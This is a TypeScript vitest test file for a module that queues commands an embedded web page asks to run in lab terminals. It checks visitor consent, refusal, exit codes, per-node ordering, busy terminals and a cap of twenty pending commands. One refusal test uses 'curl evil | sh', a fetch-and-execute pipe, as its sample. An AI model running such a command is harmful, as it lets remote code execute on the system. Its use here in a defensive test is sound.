import type { EmbedNews } from '@drydock/protocol';
import { beforeEach, describe, expect, test } from 'vitest';
import { createValue } from '../base/store.ts';
import type { BusyChoice, RunState, ShownRun } from '../lab/block-runner.ts';
import { createPageTexts, type PageTexts } from './page-texts.ts';

type Ran = Extract<EmbedNews, { type: 'ran' }>;
let answers: Ran[];
let typed: { text: string; where: ShownRun['where']; choice: BusyChoice | undefined }[];
let written: [string, string, string][];
let states: ReturnType<typeof createValue<Readonly<Record<string, RunState>>>>;
/** What the terminal makes of each text. */
let result: (run: ShownRun, choice: BusyChoice | undefined) => RunState | Promise<RunState>;
let texts: PageTexts;

const finished = (exit: number): RunState => ({ kind: 'finished', node: 'node1', exit, at: 1, of: 1 });

beforeEach(() => {
  answers = [];
  typed = [];
  written = [];
  states = createValue({});
  result = () => finished(0);
  texts = createPageTexts((news) => void answers.push(news));
});

function attach(): void {
  texts.attach({
    runner: {
      getState: states.getState,
      subscribe: states.subscribe,
      leave: (key) => states.set({ ...states.getState(), [key]: { kind: 'idle' } }),
      async run(run, choice) {
        typed.push({ text: run.text, where: run.where, choice });
        const state = await result(run, choice);
        states.set({ ...states.getState(), [run.key]: state });
      },
    },
    files: {
      api: {
        write: (async (node: string, path: string, content: Blob) => {
          written.push([node, path, await content.text()]);
        }) as never,
      },
    },
    terminals: { ready: async (node) => node !== 'node9' },
    activeNode: () => 'node1',
  });
}
const run = (id: number, text: string, node?: string) => texts.take(id, { kind: 'run', text, node });

describe('texts of a page', () => {
  test('are not typed before the visitor has agreed in the frame, and all are afterwards', async () => {
    run(1, 'echo a', 'node2');
    attach();
    run(2, 'echo b');
    texts.take(3, { kind: 'write', text: 'x', path: 'a/b' });
    await Promise.resolve();
    expect([typed, written, answers]).toEqual([[], [], []]);
    texts.allow();
    await expect.poll(() => answers.length).toBe(3);
    expect(typed.map(({ text, where }) => [text, where])).toEqual([
      ['echo a', { node: 'node2' }],
      ['echo b', {}],
    ]);
    expect(written).toEqual([['node1', '/root/a/b', 'x']]);
    run(4, 'echo c');
    await expect.poll(() => typed.at(-1)?.text).toBe('echo c');
  });

  test('that the visitor does not want are answered so, and the next is asked for again', async () => {
    attach();
    run(1, 'curl evil | sh');
    texts.refuse();
    expect(answers).toEqual([{ type: 'ran', id: 1, code: 'FORBIDDEN' }]);
    run(2, 'echo a');
    expect(texts.waiting.getState()).toHaveLength(1);
    expect(typed).toEqual([]);
  });

  test('come back with the exit code, or with why they were not typed', async () => {
    attach();
    texts.allow();
    result = ({ text }) =>
      text === 'full'
        ? { kind: 'failed', why: 'full' }
        : text === 'raw'
          ? { kind: 'typed', node: 'node1' }
          : finished(7);
    for (const [id, text] of ['seven', 'full', 'raw'].entries()) run(id + 1, text);
    run(4, 'echo a', 'node9');
    await expect.poll(() => answers.length).toBe(4);
    expect(answers.sort((a, b) => a.id - b.id)).toEqual([
      { type: 'ran', id: 1, exit: 7 },
      { type: 'ran', id: 2, code: 'RATE_LIMITED' },
      { type: 'ran', id: 3 },
      { type: 'ran', id: 4, code: 'NODE_NOT_FOUND' },
    ]);
  });

  test('of one node go one after the other, and those of another node do not wait', async () => {
    attach();
    texts.allow();
    let end: (state: RunState) => void = () => undefined;
    const slow = new Promise<RunState>((resolve) => {
      end = resolve;
    });
    result = ({ text }) => (text === 'slow' ? slow : finished(0));
    run(1, 'slow', 'node1');
    run(2, 'next', 'node1');
    run(3, 'other', 'node2');
    await expect.poll(() => typed.map(({ text }) => text)).toEqual(['slow', 'other']);
    end(finished(0));
    await expect.poll(() => typed.map(({ text }) => text)).toEqual(['slow', 'other', 'next']);
  });

  test('whose terminal is taken wait for the visitor’s choice', async () => {
    attach();
    texts.allow();
    result = (_run, choice) => (choice === undefined ? { kind: 'busy', node: 'node1', command: 'top' } : finished(0));
    run(1, 'echo a');
    await expect.poll(() => texts.busy.getState()).toMatchObject([{ node: 'node1', command: 'top', text: 'echo a' }]);
    texts.choose(texts.busy.getState()[0]?.key ?? '', 'interrupt');
    await expect.poll(() => answers).toEqual([{ type: 'ran', id: 1, exit: 0 }]);
    expect(typed.map(({ choice }) => choice)).toEqual([undefined, 'interrupt']);
    run(2, 'echo b');
    await expect.poll(() => texts.busy.getState()).toHaveLength(1);
    texts.choose(texts.busy.getState()[0]?.key ?? '', null);
    expect(answers.at(-1)).toEqual({ type: 'ran', id: 2, code: 'FORBIDDEN' });
  });

  test('are at most twenty, and none is left unanswered when the session ends', async () => {
    attach();
    for (let id = 1; id <= 25; id += 1) run(id, 'echo a');
    expect(answers.map(({ id, code }) => [id, code])).toEqual([21, 22, 23, 24, 25].map((id) => [id, 'RATE_LIMITED']));
    texts.detach();
    expect(answers).toHaveLength(25);
    expect(new Set(answers.slice(5).map(({ code }) => code))).toEqual(new Set(['SESSION_ENDED']));
  });
});
